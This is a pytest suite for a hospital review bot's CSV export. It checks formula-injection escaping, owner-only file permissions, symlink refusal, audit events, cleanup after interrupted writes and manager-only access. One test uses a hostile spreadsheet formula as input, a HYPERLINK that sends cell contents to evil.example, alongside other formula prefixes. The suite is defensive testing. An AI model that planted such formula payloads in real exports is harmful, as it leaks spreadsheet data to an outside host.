"""The export is safe to open and to keep: no formulas, owner-only identifiers, audited,
and, from the core, for managers (and the operator at the command line) only."""

from __future__ import annotations

import csv
import getpass
import json
import os
import stat
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlmodel import select

from reviews import service
from reviews.context import Actor, Services
from reviews.export import ExportError, write_export
from reviews.model import Outcome
from storage.tables import ReviewEvent
from tests.support.builders import (
    NURSE,
    OUTREACH,
    failing_on_call,
    make_services,
    on_rota,
    request,
)
from tests.support.process import run_bot

JULY = datetime(2026, 7, 31, 12, 0, tzinfo=UTC)


@pytest.fixture
def services(db, clock) -> Services:
    clock.at = JULY
    on_rota(db, "outreach", OUTREACH.name, OUTREACH.user_id, clock.now(), hours=24)
    return make_services(db, clock, managers=frozenset({"mo.manager@nhs.net"}))


def cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file) for cell in row]


def test_no_cell_starts_a_formula(services: Services, tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Ward 7")'
    for ward in (hostile, "+SUM(1)", "-2+3", "@cmd", "\tWard", "\rWard"):
        service.raise_review(
            services=services,
            request=request(ward=f"x{ward}"[1:], callback_number="+44 7700 900123"),
            by=NURSE,
        )
    service.record_outcome(
        services=services, review_id=1, by=OUTREACH, outcome=Outcome.TRANSFER, detail="ICU"
    )
    path = write_export(
        services=services, month="2026-07", out=tmp_path / "july.csv", with_identifiers=True
    )
    written = cells(path)
    assert not [cell for cell in written if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert f"'{hostile}" in written and "'+44 7700 900123" in written


def test_identifiers_are_owner_only_even_over_an_old_file(
    services: Services, tmp_path: Path
) -> None:
    service.raise_review(services=services, request=request(), by=NURSE)
    old = tmp_path / "july-WITH-IDENTIFIERS.csv"
    old.write_text("old contents that were much longer than the new export will be\n" * 500)
    old.chmod(0o644)
    path = write_export(services=services, month="2026-07", out=old, with_identifiers=True)
    assert path == old and stat.S_IMODE(path.stat().st_mode) == 0o600
    assert "old contents" not in path.read_text(encoding="utf-8")


def test_a_symlink_is_refused_and_its_target_untouched(services: Services, tmp_path: Path) -> None:
    service.raise_review(services=services, request=request(), by=NURSE)
    target = tmp_path / "shared-folder-file.csv"
    target.write_text("keep me")
    target.chmod(0o644)
    link = tmp_path / "july-WITH-IDENTIFIERS.csv"
    link.symlink_to(target)
    with pytest.raises(ExportError, match="symbolic link"):
        write_export(services=services, month="2026-07", out=link, with_identifiers=True)
    assert target.read_text() == "keep me" and stat.S_IMODE(target.stat().st_mode) == 0o644
    assert audit(services) == []


def audit(services: Services) -> list[ReviewEvent]:
    with services.db.unit_of_work() as uow:
        return [e for e in uow.session.exec(select(ReviewEvent)) if e.kind.startswith("export")]


def test_every_identifiable_export_is_audited(services: Services, tmp_path: Path) -> None:
    service.raise_review(services=services, request=request(), by=NURSE)
    write_export(services=services, month="2026-07", out=tmp_path / "a.csv", with_identifiers=False)
    assert audit(services) == []
    write_export(services=services, month="2026-07", out=tmp_path / "b.csv", with_identifiers=True)
    [event] = audit(services)
    assert (event.kind, event.platform, event.actor_id) == (
        "export_with_identifiers",
        "cli",
        getpass.getuser(),
    )
    detail = json.loads(event.detail)
    assert detail["month"] == "2026-07" and detail["requests"] == 1
    assert detail["path"].endswith("b-WITH-IDENTIFIERS.csv")


def test_an_export_cut_short_leaves_no_file_of_identifiers(
    services: Services, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A full disk (or a file-size limit) half-way: half an export is no export, and one with
    identifiers would have no audit event. The file goes; the error is raised."""
    for _ in range(3):
        service.raise_review(services=services, request=request(), by=NURSE)
    from reviews import export

    too_large = OSError(27, "File too large")
    monkeypatch.setattr(export, "request_row", failing_on_call(2, export.request_row, too_large))
    exports = tmp_path / "exports"
    exports.mkdir()
    with pytest.raises(OSError, match="File too large"):
        write_export(
            services=services, month="2026-07", out=exports / "a.csv", with_identifiers=True
        )
    assert list(exports.iterdir()) == [] and audit(services) == []


def test_an_export_run_again_and_cut_short_leaves_the_earlier_one_as_it_was(
    services: Services, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A manager's month's file, made this morning; the export run again to the same name
    fails half-way (a full disk): the morning's file is still there, whole."""
    for _ in range(3):
        service.raise_review(services=services, request=request(), by=NURSE)
    from reviews import export

    exports = tmp_path / "exports"
    exports.mkdir()
    out = exports / "july.csv"
    write_export(services=services, month="2026-07", out=out, with_identifiers=False)
    earlier = out.read_bytes()
    disk_full = OSError(28, "No space left on device")
    monkeypatch.setattr(export, "request_row", failing_on_call(2, export.request_row, disk_full))
    with pytest.raises(OSError, match="No space left"):
        write_export(services=services, month="2026-07", out=out, with_identifiers=False)
    assert out.read_bytes() == earlier and [f.name for f in exports.iterdir()] == ["july.csv"]


def test_a_folder_is_not_an_export_file(services: Services, tmp_path: Path) -> None:
    exports = tmp_path / "exports"
    exports.mkdir()
    for identifiers in (False, True):
        with pytest.raises(ExportError, match="is a folder; give the file's name"):
            write_export(
                services=services, month="2026-07", out=exports, with_identifiers=identifiers
            )
    assert list(exports.iterdir()) == [] and list(tmp_path.glob("*WITH-IDENTIFIERS*")) == []


@pytest.mark.parametrize(
    ("who", "allowed"),
    [
        (Actor(platform="slack", user_id="U0MANAGER", name="Mo", email="mo.manager@nhs.net"), True),
        (NURSE, False),
        (OUTREACH, False),
    ],
)
def test_exports_are_for_managers(
    services: Services, tmp_path: Path, who: Actor, allowed: bool
) -> None:
    out = tmp_path / "july.csv"
    if allowed:
        write_export(services=services, month="2026-07", out=out, with_identifiers=False, by=who)
        assert out.exists()
    else:
        with pytest.raises(service.NotAllowed, match="Only managers"):
            write_export(
                services=services, month="2026-07", out=out, with_identifiers=False, by=who
            )
        assert not out.exists()


@pytest.mark.slow
def test_the_command_line_export_over_an_existing_file(tmp_path: Path) -> None:
    out = tmp_path / "july-WITH-IDENTIFIERS.csv"
    out.write_text("old")
    os.chmod(out, 0o644)
    result = run_bot(
        "export", "--month", "2026-07", "--out", str(out), "--with-identifiers",
        cwd=tmp_path, DATABASE_URL=f"sqlite:///{tmp_path}/rr.db",
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


@pytest.mark.slow
def test_a_command_builds_only_what_it_needs_and_says_one_line(tmp_path: Path) -> None:
    # Slack configured (but unreachable): a command builds no bolt App, so bolt has nothing to
    # warn about and nothing calls Slack; a bad --month is exactly one line.
    result = run_bot(
        "export", "--month", "2026-13",
        cwd=tmp_path, DATABASE_URL=f"sqlite:///{tmp_path}/rr.db", SLACK_BOT_TOKEN="xoxb-test",
        SLACK_SIGNING_SECRET="secret", OUTREACH_CHANNEL="C0OUTREACH",
        SLACK_API_URL="http://127.0.0.1:9/",
    )  # fmt: skip
    assert result.returncode == 2
    assert result.stderr.splitlines() == [
        "rapidreview: --month: '2026-13' is not a month like 2026-12"
    ]
